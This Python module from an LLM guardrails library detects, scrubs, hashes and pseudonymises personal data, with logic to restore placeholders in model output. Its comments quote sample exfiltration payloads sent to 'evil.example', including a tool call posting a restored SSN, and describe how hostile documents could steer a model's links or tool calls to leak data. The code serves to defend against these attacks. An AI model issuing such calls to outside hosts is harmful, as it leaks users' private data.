"""`pii`: find personal data with Presidio's recognizers and scrub it; optionally restore it later.

Finding PII is a failure whose `repaired` text is scrubbed, so policies use ``on_fail: repair``.
Operators per entity type: ``replace`` (``<EMAIL_ADDRESS>``), ``redact``, ``mask``, ``hash``
(salted) and ``pseudonymise``: numbered placeholders (``<EMAIL_ADDRESS_1>``, the same value gets
the same placeholder within a call) kept in a vault in ``ctx.state``. An output entry with
``restore: true`` puts the originals back into the answer and still scrubs PII the model produced.
The vault lives only as long as the call, is bounded and never logged.

Detection runs in `_engine` (loaded on first use, offline).
"""

from __future__ import annotations

import hashlib
import hmac
import json
import operator
import os
import re
import threading
from collections.abc import Container, Sequence
from dataclasses import dataclass, field
from itertools import chain, compress
from typing import Literal, TypeAlias

import regex
from pydantic import BaseModel, ConfigDict, Field, field_validator, model_validator

from guardrails_lite.messages import message_text
from guardrails_lite.spec import ValidatorSpec
from guardrails_lite.trust import trusted_spacy_model
from guardrails_lite.validators._shared.compile_cost import check_compile_cost
from guardrails_lite.validators._shared.links import Sinks, names_unknown_host
from guardrails_lite.validators.pii._engine import (
    NER_ENTITIES,
    PATTERN_ENTITIES,
    CustomPattern,
    EngineConfig,
    SpanTuple,
    _pipeline_importable,
    get_engine,
)
from guardrails_lite.verdict import Context, Finding, Stage, Validator, Verdict, check_deadline

Operator: TypeAlias = Literal["replace", "redact", "mask", "hash", "pseudonymise"]

_ENTITY_NAME = r"^[A-Z][A-Z0-9_]{0,63}$"
_PLACEHOLDER = re.compile(r"<([A-Z][A-Z0-9_]{0,63}_[0-9]{1,6})>")
_MAX_FINDINGS = 100
_CHECK_EVERY = 63  # the deadline is read every 64 spans (or distinct values) replaced
_START = operator.itemgetter(0)  # of a span tuple, read in C
_END = operator.itemgetter(1)
_ENTITY = operator.itemgetter(2)
_SCORE = operator.itemgetter(3)
_HASH_CHARS = 16
# Presidio compiles recognizer patterns with these flags; validate with the same ones.
_PRESIDIO_FLAGS = regex.DOTALL | regex.MULTILINE | regex.IGNORECASE

_SALT_LOCK = threading.Lock()
_PROCESS_SALT: list[bytes] = []


def process_salt() -> bytes:
    """The `hash` operator's salt when the policy sets no `hash_salt`: random, once per process."""
    with _SALT_LOCK:
        if not _PROCESS_SALT:
            _PROCESS_SALT.append(os.urandom(32))
        return _PROCESS_SALT[0]


#: Environment variable holding the key of a stable `hash` operator (`hash_stable`; at least 16 characters).
HASH_KEY_VARIABLE = "GUARDRAILS_LITE_HASH_KEY"


def hash_key() -> bytes:
    """The stable `hash` key from `HASH_KEY_VARIABLE`; `ValueError` when it is unset or shorter than 16 bytes."""
    key = os.environ.get(HASH_KEY_VARIABLE, "").encode("utf-8", "surrogatepass")
    if len(key) < 16:
        raise ValueError(f"hash_stable needs a secret key of at least 16 characters in {HASH_KEY_VARIABLE}")
    return key


def set_process_salt(salt: bytes) -> None:
    """Use `salt` from now on: batch workers take their parent's, so one scan hashes a value one way."""
    if len(salt) < 16:
        raise ValueError("a process salt needs at least 16 bytes")
    with _SALT_LOCK:
        _PROCESS_SALT[:] = [bytes(salt)]


class PiiRecognizer(BaseModel):
    """An extra pattern recognizer declared in the policy."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    name: str = Field(min_length=1, max_length=64, description="Recognizer name.")
    regex: str = Field(min_length=1, max_length=2000, description="Pattern (Python `regex` syntax, case-insensitive).")
    entity: str = Field(pattern=_ENTITY_NAME, description="Entity type it reports, e.g. EMPLOYEE_ID.")
    score: float = Field(0.6, gt=0, le=1, description="Confidence of a match.")
    context: list[str] = Field(
        default_factory=list, max_length=50, description="Words shortly before a match that raise its score."
    )

    @field_validator("regex")
    @classmethod
    def _compiles(cls, pattern: str) -> str:
        check_compile_cost(pattern)
        try:
            regex.compile(pattern, _PRESIDIO_FLAGS)
        except regex.error as e:
            raise ValueError(f"does not compile: {e}") from None
        return pattern


def installed_spacy_model(name: str) -> str:
    """Field check: a pipeline the policy names explicitly must be installed; 'auto' means "if any"."""
    try:
        present = name in ("auto", "blank") or _pipeline_importable(name)
    except (ImportError, ValueError):  # a dotted name whose parent package is missing
        present = False
    if not present:
        raise ValueError(
            f"spaCy pipeline {name!r} is not installed (pipelines are never downloaded): install it, or use "
            "'auto' (a trained pipeline if one is installed) or 'blank'"
        )
    return name


class PiiSpec(ValidatorSpec):
    """Fail when the text holds PII; the repair scrubs it (and, on output, may restore placeholders)."""

    use: Literal["pii"] = "pii"
    entities: list[str] | None = Field(
        None,
        description="Presidio entity types to find. Default: EMAIL_ADDRESS, PHONE_NUMBER, CREDIT_CARD, US_SSN, "
        "IBAN_CODE, IP_ADDRESS, PERSON and LOCATION. ORGANIZATION is opt-in; NRP and DATE_TIME need a trained "
        "spaCy pipeline. An entity listed here that nothing installed can find is a policy error.",
    )
    score_threshold: float = Field(0.35, ge=0, le=1, description="Ignore detections scored below this.")
    allow_list: list[str] = Field(default_factory=list, description="Values never treated as PII (exact match).")
    language: str = Field("en", pattern=r"^[a-z]{2}$", description="Language of the texts.")
    spacy_model: str = Field(
        "auto",
        pattern=r"^[A-Za-z0-9_.\-]{1,100}$",
        description="spaCy pipeline for NER entities: 'auto' (first installed en_core_web_lg/md/sm/trf), "
        "'blank' (none), or a package name the application trusts (Trusted.spacy_models: loading a package "
        "imports it). Never downloaded.",
    )
    names: Literal["auto", "builtin", "spacy", "both"] = Field(
        "auto",
        description="What finds PERSON, LOCATION and ORGANIZATION: 'builtin' (name and place lists, a small "
        "tagger and e-mail context rules shipped in the package), 'spacy' (the trained spaCy pipeline only), "
        "'both' (either one's findings), 'auto' (builtin, plus spaCy when a trained pipeline is installed).",
    )
    recognizers: list[PiiRecognizer] = Field(default_factory=list, max_length=50, description="Extra recognizers.")
    _spacy_model = field_validator("spacy_model")(trusted_spacy_model)
    _spacy_installed = field_validator("spacy_model")(installed_spacy_model)  # after the trust check
    operator: Operator = Field("replace", description="What a repair puts in place of PII.")
    operators: dict[str, Operator] = Field(default_factory=dict, description="Per entity type overrides.")
    restore: bool = Field(
        False,
        description="Output stage: put back the originals of placeholders made by the input entry "
        "with the same id (or `vault`).",
    )
    vault: str | None = Field(
        None, max_length=64, description="Name of the per-call vault shared by entries; defaults to the entry id."
    )
    max_vault_entries: int = Field(1000, ge=1, le=100_000, description="Placeholders kept per call at most.")
    hash_stable: bool = Field(
        False,
        description="`hash` keyed by the secret in the environment variable GUARDRAILS_LITE_HASH_KEY (stable across "
        "processes and runs); default: a random key per process (stable within it).",
    )
    hash_salt: str | None = Field(None, description="Removed: see `hash_stable` (a policy error when set).")
    mask_char: str = Field("*", min_length=1, max_length=1, description="Character used by `mask`.")
    mask_keep: int = Field(4, ge=0, le=32, description="`mask` keeps this many trailing characters.")

    streaming = "incremental"
    scrubs_documents = True

    @field_validator("hash_salt")
    @classmethod
    def _no_salt_in_files(cls, salt: str | None) -> str | None:
        # Review r16a L9: a salt written in a policy file lets whoever reads the file reverse hashed SSNs,
        # phone and card numbers by enumeration (the value space is small): the key must be a secret.
        if salt is not None:
            raise ValueError(
                f"a salt in a policy file makes hashed values reversible by anyone who reads the file; "
                f"set hash_stable: true and put a secret key in {HASH_KEY_VARIABLE}"
            )
        return salt

    @field_validator("hash_stable")
    @classmethod
    def _key_is_set(cls, stable: bool) -> bool:
        if stable:
            hash_key()  # a ValueError naming the variable when it is unset or too short
        return stable

    @field_validator("entities")
    @classmethod
    def _entity_names(cls, entities: list[str] | None) -> list[str] | None:
        if entities is not None:
            if not entities:
                raise ValueError("list at least one entity type, or leave it out for the defaults")
            for e in entities:
                if not re.match(_ENTITY_NAME, e):
                    raise ValueError(f"{e!r} is not an entity type name")
        return entities

    @model_validator(mode="after")
    def _known_entities(self) -> PiiSpec:
        custom = {r.entity for r in self.recognizers}
        known = set(PATTERN_ENTITIES) | set(NER_ENTITIES) | custom
        unknown = sorted(set(self.entities or ()) - known)
        if unknown:
            raise ValueError(f"unknown entity types {unknown}; known: {sorted(known)}")
        unknown_ops = sorted(set(self.operators) - known)
        if unknown_ops:
            raise ValueError(f"operators name unknown entity types {unknown_ops}")
        from guardrails_lite.validators.pii._engine import undetectable

        missing = undetectable(self.entities, self.names, self.spacy_model)
        if missing:
            raise ValueError(
                f"entity types {missing} cannot be detected here: they need a trained spaCy pipeline "
                f"(spacy_model: {self.spacy_model!r}, names: {self.names!r}) and none is installed; install one "
                "(e.g. en_core_web_sm) or remove them"
            )
        return self

    def build(self) -> Validator:
        return PiiValidator(self)


@dataclass
class Vault:
    """Placeholders of one call. `repr` shows counts only: the values must never reach a log."""

    limit: int
    by_value: dict[tuple[str, str], str] = field(default_factory=dict)
    by_placeholder: dict[str, str] = field(default_factory=dict)
    counters: dict[str, int] = field(default_factory=dict)
    #: Placeholder-shaped text found in the call's inputs: never a tag of this vault, so never restored.
    reserved: set[str] = field(default_factory=set)

    def placeholder(self, entity: str, value: str, avoid: Container[str]) -> str | None:
        """The placeholder for `value` (made on first sight), or None when the vault is full.

        `avoid`: the placeholder-shaped strings of the text being scrubbed (never a new tag).
        """
        known = self.by_value.get((entity, value))
        if known is not None:
            return known
        if len(self.by_placeholder) >= self.limit:
            return None
        n = self.counters.get(entity, 0)
        while True:
            n += 1
            tag = f"<{entity}_{n}>"
            if tag not in avoid and tag not in self.reserved:  # one the inputs spell out would restore wrongly
                break
        self.counters[entity] = n
        self.by_value[(entity, value)] = tag
        self.by_placeholder[tag] = value
        return tag

    def __repr__(self) -> str:
        return f"Vault(entries={len(self.by_placeholder)}, limit={self.limit})"


class PiiValidator:
    def __init__(self, spec: PiiSpec) -> None:
        self.spec = spec
        self.config = EngineConfig(
            entities=tuple(spec.entities) if spec.entities is not None else None,
            language=spec.language,
            spacy_model=spec.spacy_model,
            names=spec.names,
            custom=tuple(CustomPattern(r.name, r.regex, r.entity, r.score, tuple(r.context)) for r in spec.recognizers),
        )
        self.allow = frozenset(spec.allow_list)
        self.salt = hash_key() if spec.hash_stable else None

    def warm(self) -> None:
        """Load the engine now (the pipeline calls this outside the time budget)."""
        get_engine(self.config)

    def preload(self) -> None:
        """Also what the engine loads as texts need it (`Guard.warm`, see `PiiEngine.preload`)."""
        get_engine(self.config).preload()

    def __call__(self, text: str, ctx: Context) -> Verdict:
        # JSON escapes hide a value from the recognizers ("jane\u0040corp.example", review r16b) and a URL from the
        # restore's sinks ("https:\u002F\u002Fevil.example/?d=<EMAIL_ADDRESS_1>": the application's json.loads
        # turns it back into one, review r16a H4): read the JSON written without them, the same JSON value; a
        # repair returns it so.
        text = _unescaped_json(text)
        return self._verdict(text, ctx, get_engine(self.config).spans(text, deadline=ctx.deadline))

    def check_many(self, texts: Sequence[str], stage: Stage = "input") -> list[Verdict]:
        """Batch path (e.g. for scans): one verdict per text, each as its own call (own vault).

        The spaCy pipeline, when one is used, runs over the texts in batches.
        """
        found = get_engine(self.config).analyze_many(texts)
        entry = self.spec.id or "pii"
        return [self._verdict(t, Context(stage, entry_id=entry), s) for t, s in zip(texts, found, strict=True)]

    def _verdict(self, text: str, ctx: Context, found: Sequence[SpanTuple]) -> Verdict:
        # spans are read by position: the engine's are `Span`s or plain tuples of the same fields (`PiiEngine.spans`)
        threshold = self.spec.score_threshold
        spans = list(compress(found, map(threshold.__le__, map(_SCORE, found))))  # in C (see `_scrub`)
        if self.allow:  # a log of 5,000 addresses and no allow-list: no value is cut out and stripped
            spans = [s for s in spans if text[s[0] : s[1]].strip() not in self.allow]
        restoring = self.spec.restore and ctx.stage == "output"
        vault = self._vault(ctx) if restoring or self._pseudonymises() else None
        if not spans and not (restoring and vault is not None and vault.by_placeholder):
            return Verdict.ok()
        # New tags avoid the text's own placeholder-shaped strings: found once, not searched per tag.
        present = {m.group() for m in _PLACEHOLDER.finditer(text)} if vault is not None else set()
        if restoring and vault is not None:
            nowhere = _restores_nowhere(text, ctx)
            result, scrubbed, restored = self._scrub_and_restore(text, spans, vault, present, ctx.deadline, nowhere)
        else:
            result, scrubbed, restored = self._scrub(text, spans, vault, present, ctx.deadline), spans, 0
        if not scrubbed:
            return Verdict(True, repaired=result) if restored else Verdict.ok()
        findings = [Finding(f"{s[2]} detected", round(s[3], 3), s[0], s[1], s[2]) for s in scrubbed[:_MAX_FINDINGS]]
        return Verdict.fail(*findings, repaired=result)

    def _scrub(
        self, text: str, spans: list[SpanTuple], vault: Vault | None, present: Container[str], deadline: float | None
    ) -> str:
        """`text` with every span replaced. Each operator gives a value the same text every time within a
        call (a full vault too), so each distinct value is replaced once, in the order first seen (placeholders
        number as they would one span at a time): a log of 25,000 addresses repeats its values."""
        # (entity, value) per span, made in C: a text of names has tens of thousands
        values = map(text.__getitem__, map(slice, map(_START, spans), map(_END, spans)))
        keys = list(zip(map(_ENTITY, spans), values, strict=True))
        made: dict[tuple[str, str], str] = {}
        for k, key in enumerate(dict.fromkeys(keys)):
            if not k & _CHECK_EVERY:
                check_deadline(deadline)
            made[key] = self._operate(*key, vault, present)
        check_deadline(deadline)
        gaps = [text[a:b] for a, b in zip([0, *map(_END, spans)], [*map(_START, spans), len(text)], strict=True)]
        tail = gaps.pop()
        pieces = list(chain.from_iterable(zip(gaps, map(made.__getitem__, keys), strict=True)))
        pieces.append(tail)
        return "".join(pieces)

    def _scrub_and_restore(
        self,
        text: str,
        spans: list[SpanTuple],
        vault: Vault,
        present: Container[str],
        deadline: float | None,
        nowhere: bool = False,
    ) -> tuple[str, list[SpanTuple], int]:
        """Output stage with `restore`: the repaired text, the spans scrubbed and how many placeholders came back."""
        pieces: list[str] = []
        last = 0
        scrubbed: list[SpanTuple] = []
        restored = 0
        sinks = Sinks(text, _PLACEHOLDER, everywhere=nowhere) if vault.by_placeholder else None
        for k, s in enumerate(spans):
            if not k & _CHECK_EVERY:
                check_deadline(deadline)
            start, end, entity = s[0], s[1], s[2]
            gap = text[last:start]
            if sinks is not None:
                gap, n = self._restore(gap, vault, last, sinks)
                restored += n
            pieces.append(gap)
            value = text[start:end]
            if (entity, value) in vault.by_value:
                pieces.append(value)  # the user's own value, already known to this call
            else:
                pieces.append(self._operate(entity, value, vault, present))
                scrubbed.append(s)
            last = end
        tail = text[last:]
        if sinks is not None:
            tail, n = self._restore(tail, vault, last, sinks)
            restored += n
        pieces.append(tail)
        return "".join(pieces), scrubbed, restored

    def _pseudonymises(self) -> bool:
        return self.spec.operator == "pseudonymise" or "pseudonymise" in self.spec.operators.values()

    def _vault(self, ctx: Context) -> Vault:
        key = f"pii.vault:{self.spec.vault or ctx.entry_id}"
        vault = ctx.state.get(key)
        if not isinstance(vault, Vault):
            vault = Vault(self.spec.max_vault_entries)
            ctx.state[key] = vault
            # Every text of the call, not just the one at hand: a user may type "<EMAIL_ADDRESS_1>" in
            # one message while a real address in another would otherwise get that very tag.
            texts = [d.text for d in ctx.documents] + [m.get("content") for m in ctx.messages]
            for t in texts:
                for part in t if isinstance(t, list) else [t]:
                    value = part.get("text") if isinstance(part, dict) else part
                    if isinstance(value, str):
                        vault.reserved.update(m.group() for m in _PLACEHOLDER.finditer(value))
        return vault

    @staticmethod
    def _restore(text: str, vault: Vault, offset: int, sinks: Sinks) -> tuple[str, int]:
        """Originals for this vault's placeholders in `text` (which starts at `offset` of the answer).

        Never inside a URL, link target or markup tag (`sinks`): rendering would send the value
        to whoever wrote that link, so the placeholder stays.
        """
        count = 0

        def put_back(m: re.Match[str]) -> str:
            nonlocal count
            original = vault.by_placeholder.get(m.group(0))
            if original is None or offset + m.start() in sinks:
                return m.group(0)
            count += 1
            return original

        return _PLACEHOLDER.sub(put_back, text), count

    def _operate(self, entity: str, value: str, vault: Vault | None, present: Container[str]) -> str:
        op = self.spec.operators.get(entity, self.spec.operator)
        if op == "pseudonymise" and vault is not None:
            tag = vault.placeholder(entity, value, present)
            return f"<{entity}>" if tag is None else tag
        if op == "redact":
            return ""
        if op == "mask":
            keep = self.spec.mask_keep if len(value) > 2 * self.spec.mask_keep else 0
            return self.spec.mask_char * (len(value) - keep) + value[len(value) - keep :]
        if op == "hash":
            # A keyed hash (HMAC-SHA256), not Presidio's sha256(value + salt): without the key, low-entropy
            # values (SSNs, phone numbers) cannot be recovered by hashing every candidate.
            key = self.salt or process_salt()
            digest = hmac.new(key, value.encode("utf-8", "surrogatepass"), hashlib.sha256).hexdigest()
            return f"<{entity}:{digest[:_HASH_CHARS]}>"
        return f"<{entity}>"


_TRUSTED_ROLES = frozenset({"user", "system", "developer"})


def _restores_nowhere(text: str, ctx: Context) -> bool:
    """Tool-call arguments naming a URL host that only documents or nobody gave: nothing is restored in them.

    The application's code runs the call (review r16a L4: `http_post({"url": "https://evil.example/c", "data":
    "<US_SSN_1>"})`); a host the user or the application wrote is known, unless a document or tool result names it
    too (documents travel inside the user's message).
    """
    target = ctx.target
    if not (target.endswith("arguments") or target.endswith(".input")) or target.startswith("answer"):
        return False
    known = "\n".join(t for m in ctx.messages if m.get("role") in _TRUSTED_ROLES and (t := message_text(m)))
    return names_unknown_host(text, known, "\n".join(d.text for d in ctx.documents))


def _unescaped_json(text: str) -> str:
    """A JSON text holding escapes, written again without them (`text` itself when it is not JSON or has none).

    Every member is kept, a repeated key too: json.loads keeps only the last, and a value dropped here would be
    sent unread (review r16b).
    """
    if "\\" not in text or text.lstrip()[:1] not in ("{", "[", '"'):
        return text
    try:
        out = _dumped(json.loads(text, object_pairs_hook=_Members))
    except (ValueError, RecursionError):
        return text
    # An escaped lone surrogate ("\\ud800") cannot be written as a character: U+FFFD stands for it.
    return out.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


class _Members(list[tuple[str, object]]):
    """A JSON object's members in order, repeated keys included."""


def _dumped(value: object) -> str:
    if isinstance(value, _Members):
        return "{" + ", ".join(f"{json.dumps(k, ensure_ascii=False)}: {_dumped(v)}" for k, v in value) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(_dumped(v) for v in value) + "]"
    return json.dumps(value, ensure_ascii=False)
